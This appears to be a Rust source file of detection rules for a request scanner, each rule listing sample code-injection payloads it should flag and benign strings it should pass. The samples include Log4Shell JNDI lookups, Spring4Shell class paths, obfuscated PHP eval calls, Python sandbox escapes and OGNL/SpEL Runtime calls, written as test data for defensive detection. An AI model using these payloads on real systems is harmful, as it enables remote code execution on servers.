//! The rules.

use crate::detect::evidence::{Class, Location, Rule};

pub(super) static JNDI: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.jndi",
    100,
    "is a JNDI lookup in a log message (Log4Shell, CVE-2021-44228)",
    &[
        "${jndi:ldap://192.0.2.1/a}",
        "${${lower:J}ndi:${lower:rmi}://example.com/a}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://example.com}",
        "x${${env:NONE:-j}ndi${sys:NONE:-:}ldap:/x}",
        "${jndi:${lower:l}${lower:d}ap://example.com",
    ],
    &["${project.version}", "the jndi:ldap name", "${HOME:-/root}", "java:comp/env/jdbc"],
);
pub(super) static SPELLED: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.spelled-lookup",
    60,
    "obfuscates a Log4j lookup letter by letter",
    &["${${::-j}${::-n}di:ldap://example.com/a}", "${${::-s}ys:user.name}"],
    &["${x::-1}", "${name:-y}", "${list[::-1]}"],
);
pub(super) static ENVIRONMENT: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.environment-lookup",
    60,
    "makes a logger insert an environment variable of the server",
    &["$_GET[0]${env:USER}", "${${::-a}${env:AWS_SECRET}}"],
    &["${env.HOME}", "${env:HOME}", "log with ${sys:user.name} in the pattern"],
);
pub(super) static CLASS_BINDING: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.class-binding",
    100,
    "binds a parameter to a property of the class object (Spring4Shell, CVE-2022-22965)",
    &[
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "class.classLoader.x",
        "a.class['module'].x",
    ],
    &["class.name", "module.class", "classLoader", "user.class"],
)
.at(Location::QueryName, "");
pub(super) static CLASS_NAME: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.class-name",
    100,
    "names a Java class that runs, reads or loads something",
    &[
        "java.lang.Runtime",
        "javax.script.ScriptEngineManager",
        "com.sun.rowset.JdbcRowSetImpl",
        "java.io.FileOutputStream",
    ],
    &[
        "java.lang.String",
        "java.util.List",
        "com.example.Process",
        "java.lang.NullPointerException: null",
        "org.example.shop",
    ],
);
pub(super) static OPEN_TAG: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.php-tag",
    60,
    "opens a PHP block",
    &[
        "<?php echo 1; ?>",
        "GIF89a<?php phpinfo();",
        "x<?= `id` ?>",
        "<? system('id');",
        "[php]system('id');[/php]",
        "<?xml :system('ls');",
    ],
    &[
        "<?xml version=\"1.0\"?>",
        "<?xphp system",
        "<?xpacket begin=\"?\" id=\"x\"?>",
        "// <?test comment",
        "a <? b",
    ],
);
pub(super) static LEADING_TAG: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.leading-php-tag",
    40,
    "begins with a PHP block",
    &["<?php echo 'test'; ?>", "\n<?= $x ?>"],
    &[
        "Write it as <?php echo 1; ?> in the page",
        "<?php",
        "[php]",
        "[php]include('a.php');[/php]",
        "[PHP] How to?",
    ],
);
pub(super) static SUPERGLOBAL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.php-input",
    30,
    "reads the request input in PHP",
    &["$_SERVER['test'];", "$GLOBALS['x']('id')", "$_COOKIE"],
    &["Use $_POST for that form", "how do I read $_GET['id'] from a form in PHP", "$existingUser", "_SERVER"],
);
pub(super) static TAINTED: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.runs-input",
    100,
    "executes the request input",
    &["eval($_POST['c'])", "@assert(@$_REQUEST['x'])", "a shell is include($_GET[0])"],
    &["evaluate($_POST)", "isset($_GET['page']) is what the page should ask first"],
);
pub(super) static NESTED: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.runs-hidden-code",
    100,
    "decodes and executes obfuscated code",
    &[
        "eval(base64_decode('cGhwaW5mbygp'))",
        "assert(gzinflate(str_rot13($x)))",
        "x;onfocus=eval(atob('YWxlcnQoMSk='))",
        "eval(String.fromCharCode(97,108",
    ],
    &["echo(base64_encode($x))", "decode with base64_decode() first"],
);
pub(super) static RUN: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.runs",
    30,
    "calls a PHP function that runs commands or code",
    &["shell_exec($x)", "call_user_func('x','y')"],
    &["why is shell_exec() off on my server", "shell_exec", "runs()", "the system is down()"],
);
pub(super) static PROBE: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.probe",
    30,
    "calls a PHP function that shows or changes the system, or obfuscates code",
    &["posix_getpwuid(25)", "get_defined_functions()[0]", "1;gzinflate($x)"],
    &[
        "cheval($foo)",
        "filemtime($foo)",
        "printf(foo)",
        "call phpinfo() to see which version runs",
        "xcheckdate()",
    ],
);
pub(super) static SPLICED: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.split-call",
    30,
    "calls a function with a comment inside the call",
    &["exec /*foo*/ ()", "exec\t/*foo\r\nbar*/\t ()", "touch/*a*/('x')", "system//\n('id')"],
    &["exec (noun)", "system /* the old one */"],
);
pub(super) static VARIABLE_CALL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.variable-call",
    30,
    "calls a PHP variable function",
    &["$f(101).$f(120)", "@$b374k('foo')", "$a /*c*/ ()", "$$$z(29)"],
    &["$(document).ready()", "$http({url: x})", "$5 (each)", "pay $a (now)", "$el.find('a')", "$a->b()"],
);
pub(super) static COMPUTED_NAME: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.computed-variable",
    30,
    "reads a PHP variable variable",
    &["$ {'_VAR'.'IABLE_NAME'}", "${\"x\"}"],
    &["${}", "${name}", "It costs ${'5'} or so, says the shop that sells them"],
);
pub(super) static COMPUTED_CALL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.computed-call",
    30,
    "calls a PHP function whose name is computed",
    &["$__['o'](5)", "x=${'a'}(11)", "$foo->$name()", "$d[$_[1]](7)"],
    &["$a[]()", "${}()", "$hash{key}=[1,2,3]", "$rows[0]->name()", "$scope.items[0]"],
);
pub(super) static APPENDED_CALL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.appended-call",
    100,
    "ends a PHP string and appends the result of a call",
    &["'.print(md5(1)).'", "\".system('id').\"", "'.@hex2bin('41').'"],
    &["', '.join(x)", "'.name.'", "the '.call().' in it", "'...(so on)...'", "\".\""],
);
pub(super) static INDIRECT_CALL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.indirect-call",
    100,
    "calls a dangerous function indirectly, by a string or a list entry",
    &[
        "('system')('whoami')",
        "(system)(ls)",
        "[ system ] [ 0 ] ( ls );",
        "return \"system\"(x)",
        "(\"system  \")(\"id\")",
        "('sys'.'tem')('id')",
        "array_map('system', ['id'])",
        "preg_replace('/x/e', 'system(\"id\")', 'x')",
    ],
    &[
        "(foo)bar or foo(bar)",
        "the (system) (x)",
        "[link](https://example.com)",
        "(1 2) (3 4)",
        "array_map('trim', $lines)",
        "preg_replace('/e/', 'a', $x)",
        "('a'.'b').length",
        "the \"system\" (main)",
    ],
);
pub(super) static PERL: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.perl-interpolation",
    100,
    "uses Perl interpolation to evaluate an expression",
    &["@{[system 'id']}", "a@{ [ qx(id) ] }"],
    &["@{", "mail@example.com", "@{name}", "@media{[x]{}}"],
);
pub(super) static IMPORT: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.module-import",
    100,
    "imports a module that acts on the system and uses it at once",
    &[
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
        "a fine process.mainModule.require(x) it is",
    ],
    &["const fs = require('fs');", "require('./page').run()", "import os", "process.env.PORT"],
);
pub(super) static MODULE: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.system-call",
    30,
    "calls a function of a module that acts on the system",
    &[
        "os.popen('id')",
        "Process.spawn(\"id\")",
        "process[\"env\"]",
        "';Kernel.exec('id')",
        "open(\"|id\").read",
    ],
    &[
        "@@ -1 +1 @@ def desert():\n     subprocess.run([\"git\", \"log\"])\n+a\n+b",
        "os.path.join(a)",
        "process(x)",
        "pos.system()",
    ],
);
pub(super) static JAVA: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.java-call",
    30,
    "calls a Java API that runs programs or scripts",
    &[
        "Runtime.getRuntime().exec('id')",
        "new ProcessBuilder(cmd).start()",
        "new java.lang.ProcessBuilder({'id'}).start()",
    ],
    &["Why does Runtime.getRuntime() say that there is so little memory", "new Builder(x)"],
);
pub(super) static JAVA_EXEC: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.java-exec",
    30,
    "runs a program from Java",
    &["Runtime.getRuntime().exec('id')"],
    &["Why does Runtime.getRuntime().exec(args) hang for so long here"],
);
pub(super) static EXPRESSION: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.java-expression",
    100,
    "accesses classes as Java expression languages (OGNL, SpEL, EL) do",
    &[
        "(#_memberAccess['allowStaticMethodAccess']=true)",
        "#a=@java.lang.Runtime@getRuntime()",
        "T(java.lang.Runtime).getRuntime()",
        "x.FileSystemXmlApplicationContext('http://192.0.2.1/wb.xml')",
    ],
    &[
        "@java.lang.Override",
        "@a.b@example.social",
        "T(user.name)",
        "the #context (of OGNL)",
        "java.dev.team@example.com",
    ],
);
pub(super) static DOTNET: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.dotnet-call",
    30,
    "calls a .NET API that acts on the system",
    &[
        "System.Diagnostics.Process.Start(\"cmd.exe\")",
        "Process.Start(\"calc\")",
        "[System.Reflection.Assembly]::Load($x)",
    ],
    &[
        "System.Console.WriteLine(x)",
        "Does System.IO.File.Exists(path) look at the disk each time",
        "System.Diagnostics",
    ],
);
pub(super) static FUNCTION_OBJECT: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.function-constructor",
    30,
    "accesses the JavaScript Function constructor",
    &["x.constructor.constructor(1)", "[].constructor.constructor('return process')()"],
    &["this.constructor.name", "The constructor of a (base) class"],
);
pub(super) static PRIVATE: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.class-walk",
    60,
    "traverses from a Python object to all classes",
    &[
        "().__class__.__bases__[0].__subclasses__()",
        "f.__globals__.__builtins__['eval']",
        "getattr(__builtins__, 'ev' + 'al')('1')",
    ],
    &["self.__class__.__name__ (of mro)", "super().__init__(builtins)"],
);
pub(super) static ENDLESS: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.endless-loop",
    30,
    "is an endless loop",
    &["while(!0);", "while(!!1){}", "x;while((true)))", "while(+Infinity);"],
    &["while(!true);", "while (foo) is bar.", "while(true) waits", "while(x < 3);"],
);
pub(super) static ONLY_CODE: Rule = Rule::new(
    Class::CodeInjection,
    "code_injection.only-code",
    70,
    "consists of code only",
    &["phpinfo(1)", "os.system('id')", "shell_exec('id')"],
    &[
        "How do I call os.system('id') from a script of mine",
        "Why does it say no to os.system(\"id\")",
        "while(i < 9)",
    ],
);

/// Every rule of this class.
pub(in crate::detect) const ALL: &[&Rule] = &[
    &JNDI,
    &SPELLED,
    &ENVIRONMENT,
    &CLASS_BINDING,
    &CLASS_NAME,
    &OPEN_TAG,
    &LEADING_TAG,
    &SUPERGLOBAL,
    &TAINTED,
    &NESTED,
    &RUN,
    &PROBE,
    &SPLICED,
    &VARIABLE_CALL,
    &COMPUTED_NAME,
    &COMPUTED_CALL,
    &APPENDED_CALL,
    &INDIRECT_CALL,
    &PERL,
    &IMPORT,
    &MODULE,
    &JAVA,
    &JAVA_EXEC,
    &EXPRESSION,
    &DOTNET,
    &FUNCTION_OBJECT,
    &PRIVATE,
    &ENDLESS,
    &ONLY_CODE,
];
